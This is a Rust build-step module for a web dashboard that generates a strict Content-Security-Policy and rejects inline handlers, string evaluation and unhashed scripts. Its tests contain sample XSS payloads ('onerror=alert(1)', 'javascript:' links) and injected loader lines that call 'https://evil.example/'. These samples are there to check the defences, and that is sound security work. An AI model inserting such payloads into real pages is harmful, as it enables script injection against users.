//! Build-time security step for `dist/`: computes the SHA-256 hashes of the inline scripts the
//! build writes (Trunk's loader or the publish step's, the pre-rendered page's head script) and
//! refuses any other, and of the stylesheet the publish step writes into `<head>`,
//! writes the strict Content-Security-Policy into `index.html` (as a `<meta>`, for hosts that
//! cannot set headers) and into example server configurations (`_headers`,
//! `nginx.conf.example`), and refuses JavaScript that evaluates strings (`eval(`, `new Function`)
//! and markup a strict policy would block (inline handlers, style attributes, `<style>` outside
//! `<head>`), read by an HTML parser so that only tags count, never text.

use std::fmt::Write as _;

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine as _;
use sha2::{Digest, Sha256};

use super::publish::keeping_loader;

/// Why the step failed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CspError {
    /// A file could not be read or written.
    Io(String),
    /// The built JavaScript evaluates strings, which the policy forbids.
    Eval {
        /// The file.
        file: String,
        /// What was found.
        found: &'static str,
    },
    /// A page has something a strict policy would block (inline styles, inline handlers).
    Inline {
        /// What was found, and in which page.
        found: String,
    },
    /// A page has an inline script the build did not write: it is not hashed, so it would not
    /// run under the policy, and its presence means something was written into the page.
    OtherScript {
        /// The page.
        page: String,
        /// The script's first characters.
        start: String,
    },
}

impl std::fmt::Display for CspError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CspError::Io(detail) => write!(f, "{detail}"),
            CspError::Eval { file, found } => {
                write!(f, "{file} contains `{found}`, which the Content-Security-Policy (no 'unsafe-eval') would block")
            }
            CspError::Inline { found } => write!(f, "{found}, which style-src/script-src 'self' would block"),
            CspError::OtherScript { page, start } => write!(
                f,
                "{page} has an inline script the build did not write ({start:?}…): only Trunk's loader and the head script are allowed, by hash"
            ),
        }
    }
}

/// The hash a Content-Security-Policy names a script (or a stylesheet) by: base64 (standard,
/// padded) of the SHA-256 of its text, as in `'sha256-…'`.
pub fn script_hash(script: &str) -> String {
    BASE64.encode(Sha256::digest(script.as_bytes()))
}

/// Whether a `<script>` element's `type` makes it code the browser runs: none, or a JavaScript
/// or module type. Data blocks (`application/ld+json`) are never executed, so the policy needs
/// no hash.
fn is_executable(kind: Option<&str>) -> bool {
    let kind = kind.unwrap_or_default().trim().to_ascii_lowercase();
    matches!(kind.as_str(), "" | "module" | "text/javascript" | "application/javascript")
}

/// The elements of an HTML document, as a browser's parser reads it.
fn elements(page: &scraper::Html) -> impl Iterator<Item = scraper::ElementRef<'_>> {
    page.root_element().descendants().filter_map(scraper::ElementRef::wrap)
}

/// The text of every inline `<script>` the browser runs (one without `src` that is not a data
/// block) in an HTML document, as the browser hashes it.
pub fn inline_scripts(html: &str) -> Vec<String> {
    let page = scraper::Html::parse_document(html);
    elements(&page)
        .filter(|e| e.value().name() == "script" && e.value().attr("src").is_none() && is_executable(e.value().attr("type")))
        .map(|e| e.text().collect())
        .collect()
}

/// Trunk's loader for the module at `module` (a path without `.js`: a public URL and a hashed
/// name, `/sub/dash/eu-iom-dashboard-b083a0b83250d22e`): [`DEV_LOADER`] with its module path
/// replaced, in both places.
pub fn trunk_loader(module: &str) -> String {
    DEV_LOADER.replace("/eu-iom-dashboard", module)
}

/// The module path a loader imports (`import … from '<module>.js'`), when it is a plain path.
pub fn loader_module(script: &str) -> Option<String> {
    let module = script.split(" from '").nth(1)?.split(".js';").next()?;
    let plain = !module.is_empty() && module.chars().all(|c| c.is_ascii_alphanumeric() || "/-_.".contains(c));
    plain.then(|| module.to_string())
}

/// The module `script` loads when it is one of the build's loaders: Trunk's, or the one the
/// publish step writes in its place ([`crate::site::publish::KEEPING_LOADER`]).
pub fn build_loader_module(script: &str) -> Option<String> {
    loader_module(script).filter(|module| script == trunk_loader(module) || script == keeping_loader(module))
}

/// Whether the build wrote `script`: one of its loaders or the pre-rendered page's head script.
pub fn is_build_script(script: &str) -> bool {
    script == crate::prerender::HEAD_SCRIPT || build_loader_module(script).is_some()
}

/// Whether an element is a `<style>` in `<head>`: the stylesheet the publish step wrote into
/// the page ([`crate::site::publish::inline_links`]). The page's texts are escaped and live in
/// `<body>`, so nothing else can put one there.
fn is_head_style(element: &scraper::ElementRef<'_>) -> bool {
    element.value().name() == "style"
        && element.parent().and_then(scraper::ElementRef::wrap).is_some_and(|parent| parent.value().name() == "head")
}

/// The text of every `<style>` in a page's `<head>`, as the browser hashes it.
pub fn head_styles(html: &str) -> Vec<String> {
    let page = scraper::Html::parse_document(html);
    elements(&page).filter(is_head_style).map(|e| e.text().collect()).collect()
}

/// Checks a page for markup a strict policy blocks: `on…` handler and `style` attributes,
/// `<style>` elements outside `<head>` and `javascript:` addresses. The page is read by an HTML
/// parser, so only attribute names inside tags count: a text that mentions ` onclick=` (escaped)
/// is text.
///
/// # Errors
/// [`CspError::Inline`] naming the first one found and `page`.
pub fn check_inline(html: &str, page: &str) -> Result<(), CspError> {
    let parsed = scraper::Html::parse_document(html);
    for element in elements(&parsed) {
        let tag = element.value().name();
        if tag == "style" && !is_head_style(&element) {
            return Err(CspError::Inline { found: format!("{page} has a <style> element outside <head>") });
        }
        for (name, value) in element.value().attrs() {
            let address = matches!(name, "href" | "src" | "action" | "formaction" | "data");
            let script_address = address && value.trim_start().get(..11).is_some_and(|scheme| scheme.eq_ignore_ascii_case("javascript:"));
            if name.starts_with("on") || name == "style" || script_address {
                return Err(CspError::Inline { found: format!("{page} has a <{tag}> with the attribute {name}=\"{value}\"") });
            }
        }
    }
    Ok(())
}

/// The hashes of a page's inline scripts, all of which the build must have written.
///
/// # Errors
/// [`CspError::OtherScript`] for the first script the build did not write.
pub fn build_script_hashes(html: &str, page: &str) -> Result<Vec<String>, CspError> {
    inline_scripts(html)
        .iter()
        .map(|script| match is_build_script(script) {
            true => Ok(script_hash(script)),
            false => Err(CspError::OtherScript { page: page.to_string(), start: script.chars().take(60).collect() }),
        })
        .collect()
}

/// The hashes of the inline code a page may run: its scripts and its stylesheets.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Hashes {
    /// Of its inline scripts.
    pub scripts: Vec<String>,
    /// Of its `<style>` elements.
    pub styles: Vec<String>,
}

impl Hashes {
    /// Adds the hashes of `other` not already here.
    pub fn extend(&mut self, other: Hashes) {
        for (mine, theirs) in [(&mut self.scripts, other.scripts), (&mut self.styles, other.styles)] {
            for hash in theirs {
                if !mine.contains(&hash) {
                    mine.push(hash);
                }
            }
        }
    }
}

/// The policy: everything from this origin only, WebAssembly compilation allowed, the inline
/// loader and stylesheet allowed by their hashes, no inline style attributes, no plug-ins, the
/// service worker from this origin only, framing only by `frame_ancestors`.
pub fn policy(hashes: &Hashes, connect: &[String], frame_ancestors: Option<&str>) -> String {
    let sources = |first: &str, hashes: &[String]| {
        let mut out = first.to_string();
        for hash in hashes {
            let _ = write!(out, " 'sha256-{hash}'");
        }
        out
    };
    let script = sources("'self' 'wasm-unsafe-eval'", &hashes.scripts);
    let style = sources("'self'", &hashes.styles);
    let mut connect_src = String::from("'self'");
    for origin in connect {
        let _ = write!(connect_src, " {origin}");
    }
    let mut out = format!(
        "default-src 'self'; script-src {script}; style-src {style}; img-src 'self' data: blob:; connect-src {connect_src}; \
         font-src 'self'; worker-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'"
    );
    if let Some(ancestors) = frame_ancestors {
        let _ = write!(out, "; frame-ancestors {ancestors}");
    }
    out
}

/// The loader Trunk writes into `index.html` when it serves the app for development (`make
/// serve`: `trunk serve --filehash false` at `/`, no reload script): the release build's loader
/// with unhashed file names. `tests/e2e/specs/trust.test.mjs` checks it against the release
/// build's staff page (the dashboard's is replaced by `publish`, which fails on a loader it does
/// not know).
pub const DEV_LOADER: &str = "\nimport init, * as bindings from '/eu-iom-dashboard.js';\nconst wasm = await init({ module_or_path: '/eu-iom-dashboard_bg.wasm' });\n\n\nwindow.wasmBindings = bindings;\n\n\ndispatchEvent(new CustomEvent(\"TrunkApplicationStarted\", {detail: {wasm}}));\n\n";

/// Headers every response carries besides the policy, in the release's example configurations
/// and on the development server alike.
pub const OTHER_HEADERS: [(&str, &str); 2] =
    [("X-Content-Type-Options", "nosniff"), ("Referrer-Policy", "strict-origin-when-cross-origin")];

/// The policy of the development server: the release policy, made by the same function, for the
/// development loader, no other data origins and framing by the page's own origin only (the
/// release default).
pub fn serve_policy() -> String {
    policy(&Hashes { scripts: vec![script_hash(DEV_LOADER)], styles: Vec::new() }, &[], Some("'self'"))
}

/// The `headers` line of `Trunk.toml`'s `[serve]` section: the development server's policy and
/// the other release headers.
pub fn serve_headers() -> String {
    let mut line = format!("headers = {{ \"Content-Security-Policy\" = \"{}\"", serve_policy());
    for (name, value) in OTHER_HEADERS {
        let _ = write!(line, ", \"{name}\" = \"{value}\"");
    }
    line.push_str(" }");
    line
}

const META_START: &str = "<meta http-equiv=\"Content-Security-Policy\"";
/// What goes before the `<meta>`: a line break and the page's indent.
const INDENT: &str = "\n    ";

/// Puts the policy into `index.html` as a `<meta>` right after the charset (replacing an earlier
/// one). `frame-ancestors` is left out: browsers ignore it in `<meta>`.
pub fn with_meta(html: &str, meta_policy: &str) -> String {
    let mut html = html.to_string();
    if let Some(at) = html.find(META_START) {
        if let Some(end) = html.get(at..).and_then(|r| r.find('>')).map(|e| at + e + 1) {
            // With the line break and indent written before it, so that running the step again
            // changes nothing.
            let start = if html.get(..at).is_some_and(|before| before.ends_with(INDENT)) { at - INDENT.len() } else { at };
            html.replace_range(start..end, "");
        }
    }
    let meta = format!("{META_START} content=\"{meta_policy}\">");
    match html.find("<meta charset=\"utf-8\">") {
        Some(at) => {
            let at = at + "<meta charset=\"utf-8\">".len();
            html.insert_str(at, &format!("{INDENT}{meta}"));
            html
        }
        None => html.replacen("<head>", &format!("<head>{INDENT}{meta}"), 1),
    }
}

/// Checks built JavaScript for string evaluation.
///
/// # Errors
/// [`CspError::Eval`] naming the file and what was found.
pub fn check_javascript(file: &str, text: &str) -> Result<(), CspError> {
    for found in ["new Function", "eval("] {
        let standalone = text.match_indices(found).any(|(at, _)| {
            let before = text.get(..at).and_then(|t| t.chars().last());
            !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$')
        });
        if standalone {
            return Err(CspError::Eval { file: file.to_string(), found });
        }
    }
    Ok(())
}

/// The pages of a build the policy step secures (the staff page only when it was built).
pub const PAGES: [&str; 2] = ["index.html", "staff.html"];

/// Secures one page: refuses what a strict policy would block, and puts the policy allowing its
/// own inline scripts and stylesheet into it as a `<meta>`; returns the page and those hashes.
///
/// # Errors
/// [`CspError::Inline`] naming what the page `name` contains.
pub fn secure_page(name: &str, html: &str, connect: &[String]) -> Result<(String, Hashes), CspError> {
    check_inline(html, name)?;
    let hashes =
        Hashes { scripts: build_script_hashes(html, name)?, styles: head_styles(html).iter().map(|style| script_hash(style)).collect() };
    let meta = policy(&hashes, connect, None);
    Ok((with_meta(html, &meta), hashes))
}

/// The other origins a secured page's `<meta>` policy lets it fetch from (its `connect-src`
/// besides `'self'`), or `None` when the page has no policy.
pub fn connect_of(html: &str) -> Option<Vec<String>> {
    let start = html.find(META_START)?;
    let content = html.get(start..)?.split("content=\"").nth(1)?.split('"').next()?;
    let sources = content.split(';').find_map(|directive| directive.trim().strip_prefix("connect-src "))?;
    Some(sources.split_whitespace().filter(|s| *s != "'self'").map(str::to_string).collect())
}

/// `_headers` (Netlify, Cloudflare Pages) for the site-wide policy `full`.
pub fn headers_file(full: &str) -> String {
    let other: String = OTHER_HEADERS.iter().map(|(name, value)| format!("  {name}: {value}\n")).collect();
    format!(
        "# Headers for Netlify, Cloudflare Pages and other hosts that read a _headers file.\n\
         # Generated by `eu-iom-data csp` for this build: the script hash changes with every build.\n\
         /*\n  Content-Security-Policy: {full}\n{other}\
         /*.wasm\n  Content-Type: application/wasm\n/data/*\n  Cache-Control: no-cache\n"
    )
}

/// `nginx.conf.example` for the site-wide policy `full`.
pub fn nginx_file(full: &str) -> String {
    let other_nginx: String = OTHER_HEADERS.iter().map(|(name, value)| format!("add_header {name} {value} always;\n")).collect();
    format!(
        "# nginx example for this build (generated by `eu-iom-data csp`; the script hash changes with every build).\n\
         # Serve dist/ under any path, e.g. location /dashboards/eu-iom/ {{ alias /srv/eu-iom/dist/; … }}.\n\
         types {{ application/wasm wasm; }}\n\
         add_header Content-Security-Policy \"{full}\" always;\n\
         {other_nginx}\
         location ~ /data/ {{ add_header Cache-Control no-cache always; add_header Content-Security-Policy \"{full}\" always; }}\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn script_hashes_are_base64_of_sha256() {
        // The standard SHA-256 vectors, and MDN's example of a CSP hash, in the policy's form.
        assert_eq!(script_hash(""), "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=");
        assert_eq!(script_hash("abc"), "ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0=");
        assert_eq!(script_hash(&"a".repeat(1000)), "Qe3s5C1j6Nm/UVqbppMuHCDLyfWl0TRkWttdsblzfqM=");
        assert_eq!(script_hash("alert('Hello, world.');"), "qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng=");
    }

    #[test]
    fn finds_inline_scripts_only() {
        let html = "<head><script type=\"module\">\nimport init;\n</script><script src=\"a.js\"></script><script>x()</script></head>";
        assert_eq!(inline_scripts(html), vec!["\nimport init;\n".to_string(), "x()".to_string()]);
    }

    #[test]
    fn json_ld_is_data_and_needs_no_hash() {
        let html = r#"<script type="application/ld+json">{"@type":"Dataset"}</script><script type="text/javascript">y()</script>"#;
        assert_eq!(inline_scripts(html), vec!["y()".to_string()]);
    }

    #[test]
    fn meta_goes_after_the_charset_and_replaces_an_old_one() {
        let html = "<head>\n<meta charset=\"utf-8\">\n<title>t</title>";
        let once = with_meta(html, "default-src 'self'");
        let twice = with_meta(&once, "default-src 'none'");
        assert_eq!(twice.matches(META_START).count(), 1);
        assert!(twice.contains("content=\"default-src 'none'\""));
        assert!(twice.find(META_START) > twice.find("charset"));
    }

    #[test]
    fn running_the_step_again_changes_nothing() {
        let html = "<head>\n    <meta charset=\"utf-8\">\n    <title>t</title>\n</head>";
        let (once, _) = secure_page("index.html", html, &["https://data.example.org".into()]).unwrap();
        let (twice, _) = secure_page("index.html", &once, &["https://data.example.org".into()]).unwrap();
        assert_eq!(once, twice);
        assert_eq!(connect_of(&once), Some(vec!["https://data.example.org".to_string()]));
        assert_eq!(connect_of(html), None);
    }

    #[test]
    fn the_policy_is_strict() {
        let p = policy(&Hashes { scripts: vec!["abc=".into()], styles: vec!["def=".into()] }, &[], Some("'self' https://intranet.example"));
        assert_eq!(
            p,
            "default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-abc='; style-src 'self' 'sha256-def='; img-src 'self' data: blob:; \
             connect-src 'self'; font-src 'self'; worker-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'; frame-ancestors 'self' https://intranet.example"
        );
        assert!(!p.contains("unsafe-inline") && !p.contains("'unsafe-eval'"));
    }

    #[test]
    fn the_development_server_sends_the_release_policy() {
        let trunk = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/Trunk.toml")).unwrap();
        let serve = trunk.split("\n[").find(|section| section.starts_with("serve]")).expect("a [serve] section");
        let expected = serve_headers();
        assert!(
            serve.lines().any(|line| line.trim() == expected),
            "Trunk.toml's [serve] section must send the release policy; put this line in it:\n{expected}"
        );
        assert!(
            serve.lines().any(|line| line.trim() == "no_autoreload = true"),
            "Trunk's reload script is inline and host-dependent: it cannot have a fixed hash"
        );
        assert!(serve_policy().starts_with("default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-"));
    }

    /// Trunk's loader in a release build for `/sub/dash/`.
    const LOADER: &str = "\nimport init, * as bindings from '/sub/dash/eu-iom-dashboard-b083a0b83250d22e.js';\nconst wasm = await init({ module_or_path: '/sub/dash/eu-iom-dashboard-b083a0b83250d22e_bg.wasm' });\n\n\nwindow.wasmBindings = bindings;\n\n\ndispatchEvent(new CustomEvent(\"TrunkApplicationStarted\", {detail: {wasm}}));\n\n";

    /// A built page: the loader and the head script in `<head>`, `body` in `<body>`.
    fn page(body: &str) -> String {
        format!(
            "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n    <meta charset=\"utf-8\">\n    <title>EU–IOM</title>\n\
             <script type=\"module\">{LOADER}</script>\n<script>{}</script>\n</head>\n<body><div id=\"app\">{body}</div></body>\n</html>\n",
            crate::prerender::HEAD_SCRIPT
        )
    }

    /// Secures one page on its own; returns the page with its policy.
    fn secure_alone(name: &str, html: &str) -> Result<String, CspError> {
        secure_page(name, html, &[]).map(|(page, _)| page)
    }

    #[test]
    fn handlers_and_styles_are_found_in_tags_not_in_text() {
        // The page's texts are escaped: words that name handlers are text, not attributes.
        let text = "<h1>Release says onclick= and onload= and style=\"x\" &lt;svg onload=alert(1)&gt;</h1>\
                    <p title=\"a onclick=b\" aria-label=\"javascript: a language\">&lt;style&gt;</p>";
        assert!(secure_alone("text", &page(text)).is_ok(), "{:?}", secure_alone("text", &page(text)));
        for markup in [
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)></svg>",
            "<div\nonclick=\"x()\">",
            "<p ONMOUSEOVER='x()'>",
            "<p style=\"color:red\">",
            "<style>p{}</style>",
            "<a href=\" JavaScript:x()\">",
        ] {
            assert!(matches!(secure_alone("markup", &page(markup)), Err(CspError::Inline { .. })), "{markup}");
        }
    }

    #[test]
    fn only_the_builds_own_scripts_are_hashed() {
        let policy = secure_alone("own", &page("<p>x</p>")).unwrap();
        assert_eq!(policy.matches("'sha256-").count(), 2, "Trunk's loader and the head script: {policy}");
        assert!(policy.contains(&script_hash(LOADER)) && policy.contains(&script_hash(crate::prerender::HEAD_SCRIPT)));
        for other in [
            "<script>alert(1)</script>",
            "<script type=\"module\">import('/x.js')</script>",
            "<script type=\"text/javascript\">y()</script>",
        ] {
            assert!(secure_alone("other", &page(other)).is_err(), "{other} must fail the build, not be hashed");
        }
        assert!(secure_alone("data", &page("<script type=\"application/ld+json\">{}</script>")).is_ok(), "data blocks never run");
    }

    #[test]
    fn the_loader_publish_writes_is_the_builds_and_no_other_is() {
        let module = "/sub/dash/eu-iom-dashboard-b083a0b83250d22e";
        let keeping = keeping_loader(module);
        assert!(is_build_script(&keeping) && is_build_script(&trunk_loader(module)) && is_build_script(LOADER));
        assert_eq!(trunk_loader(module), LOADER);
        // The same loader for another module in one of its two places, or with a line added.
        assert!(!is_build_script(&keeping.replacen(module, "/sub/dash/other-b083a0b83250d22e", 1)));
        assert!(!is_build_script(&format!("{keeping}fetch('https://evil.example/');\n")));
        assert!(!is_build_script(&keeping.replace(module, "/x'); import('https://evil.example/x")));
    }

    #[test]
    fn the_stylesheet_in_head_is_allowed_by_its_hash_and_no_other_style_is() {
        let css = "body{color:red}";
        let html = page("<p>x</p>").replace("<title>", &format!("<style>{css}</style>\n    <title>"));
        let (secured, hashes) = secure_page("index.html", &html, &[]).unwrap();
        assert_eq!(hashes.styles, vec![script_hash(css)]);
        assert!(secured.contains(&format!("style-src 'self' 'sha256-{}';", script_hash(css))), "{secured}");
        // In the body (where the page's texts are), a <style> is refused as before.
        let body = page("<style>p{}</style>");
        assert!(matches!(secure_alone("body", &body), Err(CspError::Inline { .. })));
    }

    #[test]
    fn string_evaluation_is_refused() {
        assert!(check_javascript("a.js", "const f = new Function('x')").is_err());
        assert!(check_javascript("a.js", "window.eval('1')").is_err());
        assert!(check_javascript("a.js", "retrieval(x); evaluate(y)").is_ok());
    }
}
